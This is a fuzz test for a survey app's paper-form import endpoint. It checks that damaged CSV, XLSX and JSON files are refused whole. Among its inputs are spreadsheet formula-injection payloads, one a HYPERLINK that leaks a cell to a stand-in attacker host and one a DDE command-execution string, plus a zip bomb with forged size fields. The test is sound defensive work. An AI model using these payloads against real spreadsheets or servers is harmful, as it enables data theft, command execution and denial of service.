// Fuzzes POST /api/waves/:id/paper/import with filled templates (CSV, XLSX, JSON rows) that carry at least one
// defect — bad headers, wrong cells, formula injection, binary garbage, invalid UTF-8 — plus zip bombs and huge row
// counts within the size limit. Every one must be refused whole; only the refusal itself may reach the audit log.
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import fc from "fast-check";
import { zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { paperFormNamespace } from "../../server/paper/formIds";
import { createWave } from "../../server/waves/waves";
import { validAnswers } from "../helpers/dataPool";
import { appFor, type Fixture, prepareDatabase, signedIn } from "../helpers/fixture";
import {
  type DatabaseDigest,
  databaseDigest,
  expectErrorShape,
  expectUnchanged,
  fuzzParams,
  fuzzTimeout,
  nastyString,
  reportTried,
  sqlFragments,
} from "../helpers/fuzz";
import { type PaperCell, paperRow } from "../helpers/paperRows";

const now = new Date();
const day = 86_400_000;
const xlsxType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
let dir: string;
let fixture: Fixture;
let app: ReturnType<typeof appFor>["app"];
let cookies: Record<string, string>;
let columns: { name: string; kind: string; min?: number; max?: number }[];
let before: DatabaseDigest;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "minyi-fuzz-paper-"));
  fixture = await prepareDatabase(join(dir, "fuzz.duckdb"), now);
  await createWave(fixture.db, {
    id: "wave-paper",
    surveyId: "plant-satisfaction",
    title: "2026年第四季度",
    periodStart: "2026-10-01",
    periodEnd: "2026-12-31",
    opensAt: new Date(now.getTime() - 10 * day).toISOString(),
    closesAt: new Date(now.getTime() + 10 * day).toISOString(),
    channels: ["online", "paper"],
  });
  app = appFor(fixture, () => now).app;
  cookies = await signedIn(fixture, app, now, [
    ["admin", "admin", "plant"],
    ["grid", "collector", "st-1"],
  ]);
  // Made on the first import ever; made here so that a refused first import does not count as a change.
  await paperFormNamespace(fixture.db);
  const paper = await app.request("/api/waves/wave-paper/paper", {
    headers: { cookie: cookies.admin ?? "" },
  });
  columns = ((await paper.json()) as { columns: typeof columns }).columns;
  // One stored form, so the same form number with other answers (form_conflict) has something to meet.
  const stored = await importRows([storedForm()], "application/json", "admin", "");
  expect(stored.status).toBe(201);
  before = await databaseDigest(fixture.db);
});

afterAll(() => {
  fixture.db.close();
  rmSync(dir, { recursive: true, force: true });
});

type Row = Record<string, PaperCell>;
type Who = "admin" | "grid";

const storedForm = (): Row =>
  paperRow({ form_no: "S-1", unit_id: "team-1", group_id: "staff" }, validAnswers(fixture.definition, 4));

let formNumber = 0;
/** Forms that would import as they are: new numbers, units inside both users' scope. */
function validForms(seed: number, count: number): Row[] {
  return Array.from({ length: count }, (_, i) =>
    paperRow(
      { form_no: `N-${++formNumber}`, unit_id: i % 2 === 0 ? "team-1" : "st-1", group_id: "staff" },
      validAnswers(fixture.definition, seed + i),
    ),
  );
}

function importRows(rows: Row[], type: string, who: Who, query: string) {
  return send(JSON.stringify({ rows }), type, who, query);
}

function send(body: string | Uint8Array, type: string, who: Who, query: string) {
  return app.request(`/api/waves/wave-paper/paper/import${query}`, {
    method: "POST",
    headers: { cookie: cookies[who] ?? "", "content-type": type },
    body: body as BodyInit,
  });
}

function csvText(header: string[], rows: Row[]): string {
  const field = (v: PaperCell | undefined) => {
    const t = v === undefined ? "" : String(v);
    return /[",\r\n]/.test(t) ? `"${t.replaceAll('"', '""')}"` : t;
  };
  return `\uFEFF${[header.join(","), ...rows.map((r) => header.map((n) => field(r[n])).join(","))].join("\r\n")}\r\n`;
}

/** A file's content: its header, rows, and the bytes-level damage done to it after writing. */
interface Sheet {
  header: string[];
  rows: Row[];
  /** Cells written as Excel formulas in an XLSX: the formula, and the result Excel last showed. */
  formulas: { row: number; column: string; formula: string; result: PaperCell }[];
  damage: ((bytes: Buffer) => Buffer)[];
}

type Defect = { name: string; apply: (s: Sheet, who: Who) => void; [fc.toStringMethod]: () => string };
const defect = (name: string, apply: Defect["apply"]): Defect => ({
  name,
  apply,
  [fc.toStringMethod]: () => name,
});

const preview = (v: unknown) => {
  const text = JSON.stringify(v) ?? String(v);
  return text.length > 40 ? `${text.slice(0, 37)}…(${text.length})` : text;
};

const formulas = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"9")',
  "=1+2",
  "@SUM(1,1)",
  "=cmd|' /C calc'!A0",
  "+9",
  "-9",
  "=9",
];

/** Text no scale from min to max takes, however it is spelled (full-width digits, spaces, a plus sign). */
const badPoint = (min: number, max: number) =>
  fc
    .oneof(
      fc.constantFrom(...formulas, ...sqlFragments, "NaN", "Infinity", "1e999", "2.5", "五"),
      fc.oneof(fc.integer({ max: min - 1 }), fc.integer({ min: max + 1 })).map(String),
      nastyString,
    )
    .filter((v) => {
      const text = v.normalize("NFKC").trim();
      const n = Number(text);
      return text !== "" && !(Number.isInteger(n) && n >= min && n <= max);
    });

const pick = <T>(items: readonly T[], at: number) => items[at % items.length] as T;
const scaleColumns = () => columns.filter((c) => c.kind === "scale" && c.min !== undefined);
const knownNames = () => new Set(columns.map((c) => c.name));

const cellDefects: fc.Arbitrary<Defect> = fc.oneof(
  // Columns are known once beforeAll has read them: chain picks one at generation time.
  fc.tuple(fc.nat(), fc.nat()).chain(([at, rowAt]) => {
    const column = pick(scaleColumns(), at);
    return badPoint(column.min ?? 1, column.max ?? 5).map((v) =>
      defect(`${column.name}=${preview(v)}`, (s) => {
        pick(s.rows, rowAt)[column.name] = v;
      }),
    );
  }),
  fc
    .tuple(fc.oneof(nastyString, fc.constantFrom(...formulas)), fc.nat())
    .filter(([v]) => v.trim() !== "")
    .map(([v, rowAt]) =>
      defect(`unit_id=${preview(v)}`, (s) => {
        pick(s.rows, rowAt).unit_id = v;
      }),
    ),
  fc.nat().map((rowAt) =>
    defect("a unit outside the grid worker's stations", (s, who) => {
      pick(s.rows, rowAt).unit_id = who === "grid" ? "dept-hr" : "nowhere";
    }),
  ),
  fc
    .tuple(
      nastyString.filter((v) => v.trim() !== ""),
      fc.nat(),
    )
    .map(([v, rowAt]) =>
      defect(`group_id=${preview(v)}`, (s) => {
        pick(s.rows, rowAt).group_id = v;
      }),
    ),
  fc
    .tuple(
      fc.constantFrom("2026-02-30", "2026-13-01", "1999-01-01", "2099-12-31", "yesterday", "=TODAY()"),
      fc.nat(),
    )
    .map(([v, rowAt]) =>
      defect(`filled_on=${v}`, (s) => {
        pick(s.rows, rowAt).filled_on = v;
      }),
    ),
  fc.constant(
    defect("a form number twice", (s) => {
      const [first] = s.rows;
      if (first) s.rows.push({ ...first });
    }),
  ),
  fc.constant(
    defect("a stored form number with other answers", (s) => {
      s.rows.push(
        paperRow(
          { form_no: "S-1", unit_id: "team-1", group_id: "staff" },
          validAnswers(fixture.definition, 5),
        ),
      );
    }),
  ),
  fc.nat().map((rowAt) =>
    defect("a filled row without a form number", (s) => {
      pick(s.rows, rowAt).form_no = "";
    }),
  ),
  fc
    .tuple(
      nastyString.filter((v) => v.trim() !== ""),
      fc.nat(),
    )
    .map(([v, rowAt]) =>
      defect(`commute_route=${preview(v)}`, (s) => {
        pick(s.rows, rowAt).commute_route = v;
      }),
    ),
  fc.tuple(fc.integer({ min: 1001, max: 9000 }), fc.nat()).map(([n, rowAt]) =>
    defect(`demands of ${n} characters`, (s) => {
      pick(s.rows, rowAt).demands = "诉".repeat(n);
    }),
  ),
);

const headerDefects: fc.Arbitrary<Defect> = fc.oneof(
  fc
    .oneof(
      nastyString,
      fc.constantFrom("__proto__", "constructor", '=HYPERLINK("x")', "safety_ppe ", "Form_No"),
    )
    .filter((name) => name.trim() !== "" && !knownNames().has(name.trim()) && !/[\r\n"]/.test(name))
    .map((name) =>
      defect(`unknown column ${preview(name)}`, (s) => {
        s.header.push(name);
        for (const row of s.rows) row[name] = "3";
      }),
    ),
  fc.constantFrom("form_no", "unit_id", "group_id").map((name) =>
    defect(`without column ${name}`, (s) => {
      s.header = s.header.filter((n) => n !== name);
    }),
  ),
  fc.nat().map((at) =>
    defect("a column twice", (s) => {
      s.header.push(pick(s.header, at));
    }),
  ),
);

/** Damage to the written bytes (CSV only: an XLSX is a zip, and this would only make it unreadable). */
const byteDefects: fc.Arbitrary<Defect> = fc.oneof(
  fc.constantFrom([0xff], [0xc0, 0x80], [0xed, 0xa0, 0x80], [0x80, 0x80]).map((bad) =>
    defect(`bytes ${Buffer.from(bad).toString("hex")} in a unit`, (s) => {
      const [first] = s.rows;
      if (first) first.unit_id = "@@BAD@@";
      s.damage.push((bytes) => {
        const at = bytes.indexOf("@@BAD@@");
        return at < 0
          ? bytes
          : Buffer.concat([bytes.subarray(0, at), Buffer.from(bad), bytes.subarray(at + 7)]);
      });
    }),
  ),
  fc.constant(
    defect("a NUL byte", (s) => {
      s.damage.push((bytes) => Buffer.concat([bytes.subarray(0, 40), Buffer.from([0]), bytes.subarray(40)]));
    }),
  ),
  fc.constant(
    defect("a quote never closed", (s) => {
      s.damage.push((bytes) => Buffer.concat([bytes, Buffer.from('N-x,"team-1\r\n')]));
    }),
  ),
  fc.constant(
    defect("the header on row 2", (s) => {
      s.damage.push((bytes) => Buffer.concat([Buffer.from("\r\n"), bytes]));
    }),
  ),
);

/** Cells an XLSX holds as formulas; the import reads what the cell shows, which here no question takes. */
const formulaDefects: fc.Arbitrary<Defect> = fc
  .tuple(fc.constantFrom(...formulas.filter((f) => f.startsWith("="))), fc.boolean())
  .map(([formula, inUnit]) =>
    defect(`formula ${formula} in ${inUnit ? "unit_id" : "safety_ppe"}`, (s) => {
      s.formulas.push(
        inUnit
          ? { row: 0, column: "unit_id", formula: formula.slice(1), result: "nowhere" }
          : { row: 0, column: "safety_ppe", formula: formula.slice(1), result: 9 },
      );
    }),
  );

async function xlsxBytes(sheet: Sheet): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const forms = workbook.addWorksheet("forms");
  forms.addRow(sheet.header);
  sheet.rows.forEach((row, i) => {
    const added = forms.addRow(sheet.header.map((n) => row[n] ?? null));
    for (const f of sheet.formulas.filter((f) => f.row === i)) {
      const at = sheet.header.indexOf(f.column);
      if (at >= 0)
        added.getCell(at + 1).value = { formula: f.formula, result: f.result } as ExcelJS.CellValue;
    }
  });
  return Buffer.from((await workbook.xlsx.writeBuffer()) as ArrayBuffer);
}

type Format = "csv" | "xlsx" | "json";
const fileTypes = ["text/csv", "application/vnd.ms-excel", "application/octet-stream"];

const submission = fc
  .record({
    format: fc.constantFrom<Format>("csv", "csv", "csv", "json", "json", "xlsx"),
    seed: fc.nat(100),
    count: fc.integer({ min: 1, max: 3 }),
    who: fc.constantFrom<Who>("admin", "grid"),
    dryRun: fc.boolean(),
    type: fc.constantFrom(...fileTypes),
    cells: fc.array(cellDefects, { maxLength: 2 }),
    headers: fc.array(headerDefects, { maxLength: 1 }),
    bytes: fc.array(byteDefects, { maxLength: 1 }),
    formulas: fc.array(formulaDefects, { maxLength: 1 }),
  })
  .filter((s) => {
    const applicable =
      s.cells.length +
      (s.format === "json" ? 0 : s.headers.length) +
      (s.format === "csv" ? s.bytes.length : 0);
    return applicable + (s.format === "xlsx" ? s.formulas.length : 0) > 0;
  });

describe("POST /api/waves/:id/paper/import refuses every damaged file whole, in the error shape", () => {
  it(
    "bad headers, wrong cells, formulas, invalid UTF-8, NUL bytes, broken quotes, in CSV, XLSX and JSON rows",
    async () => {
      let tried = 0;
      await fc.assert(
        fc.asyncProperty(submission, async (s) => {
          tried++;
          const sheet: Sheet = {
            header: columns.map((c) => c.name),
            rows: validForms(s.seed, s.count),
            formulas: [],
            damage: [],
          };
          const applied = [
            ...s.cells,
            ...(s.format === "json" ? [] : s.headers),
            ...(s.format === "csv" ? s.bytes : []),
            ...(s.format === "xlsx" ? s.formulas : []),
          ];
          for (const d of applied) d.apply(sheet, s.who);
          const query = s.dryRun ? "?dryRun=1" : "";
          let res: Response;
          if (s.format === "json") res = await importRows(sheet.rows, "application/json", s.who, query);
          else {
            let bytes =
              s.format === "csv" ? Buffer.from(csvText(sheet.header, sheet.rows)) : await xlsxBytes(sheet);
            for (const damage of sheet.damage) bytes = damage(bytes);
            res = await send(bytes, s.format === "xlsx" ? xlsxType : s.type, s.who, query);
          }
          const what = `${s.who} ${s.format}: ${applied.map((d) => d.name).join(" + ")}`;
          expectErrorShape(res.status, await res.text(), what);
          expect((await app.request("/api/health")).status).toBe(200);
        }),
        fuzzParams(150),
      );
      reportTried("POST /api/waves/:id/paper/import files", tried);
      await expectUnchanged(fixture.db, before, refusedImport);
    },
    fuzzTimeout(90_000),
  );

  it(
    "binary garbage, as it is and behind a zip signature",
    async () => {
      const start = await databaseDigest(fixture.db);
      let tried = 0;
      await fc.assert(
        fc.asyncProperty(
          fc.uint8Array({ minLength: 1, maxLength: 4000 }),
          fc.boolean(),
          fc.constantFrom(...fileTypes, xlsxType),
          async (bytes, zipped, type) => {
            tried++;
            const body = zipped
              ? Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), bytes])
              : Buffer.from(bytes);
            const res = await send(body, type, "admin", "");
            expectErrorShape(
              res.status,
              await res.text(),
              `${body.length} random bytes${zipped ? " after PK" : ""}`,
            );
          },
        ),
        fuzzParams(150),
      );
      reportTried("POST /api/waves/:id/paper/import binary garbage", tried);
      await expectUnchanged(fixture.db, start, refusedImport);
    },
    fuzzTimeout(60_000),
  );

  it(
    "zip bombs, huge row counts and bodies over the limit",
    async () => {
      const start = await databaseDigest(fixture.db);
      const zeros = new Uint8Array(110 * 1024 * 1024);
      const honest = zipSync({ "xl/worksheets/sheet1.xml": zeros }, { level: 9 });
      const lying = lieAboutSizes(honest.slice());
      const template = csvText(
        columns.map((c) => c.name),
        [],
      );
      const filledRow =
        csvText(
          columns.map((c) => c.name),
          validForms(7, 1),
        ).split("\r\n")[1] ?? "";
      const big: [string, () => string | Uint8Array, string, number][] = [
        ["a zip bomb (110 MB of zeros)", () => honest, xlsxType, 400],
        ["a zip bomb whose sizes lie", () => lying, xlsxType, 400],
        ["20,001 filled rows", () => template + `${filledRow}\r\n`.repeat(20_001), "text/csv", 400],
        ["3 million blank lines", () => template + "\r\n".repeat(3_000_000), "text/csv", 400],
        ["a body over 10 MiB", () => template + "x".repeat(10 * 1024 * 1024), "text/csv", 413],
      ];
      for (const [name, body, type, status] of big) {
        const res = await send(body(), type, "admin", "");
        expect(res.status, name).toBe(status);
        expectErrorShape(res.status, await res.text(), name);
        expect((await app.request("/api/health")).status).toBe(200);
      }
      reportTried("POST /api/waves/:id/paper/import bombs and huge files", big.length);
      await expectUnchanged(fixture.db, start, refusedImport);
    },
    fuzzTimeout(60_000),
  );
});

/** A refused import is audited by design (outcome = the refusal's code); a stored one would say "imported". */
function refusedImport(entry: { action: string; detail: unknown }): boolean {
  const outcome = (entry.detail as { outcome?: string } | null)?.outcome;
  return (
    entry.action === "paper_import" && outcome !== undefined && !["imported", "dry_run"].includes(outcome)
  );
}

/** Claims each part unpacks to 1,000 bytes, in the local headers and the central directory. */
function lieAboutSizes(zip: Uint8Array): Uint8Array {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  for (let at = 0; at + 30 <= zip.length; at++) {
    if (view.getUint32(at, true) === 0x04034b50) view.setUint32(at + 22, 1000, true);
    if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, 1000, true);
  }
  return zip;
}
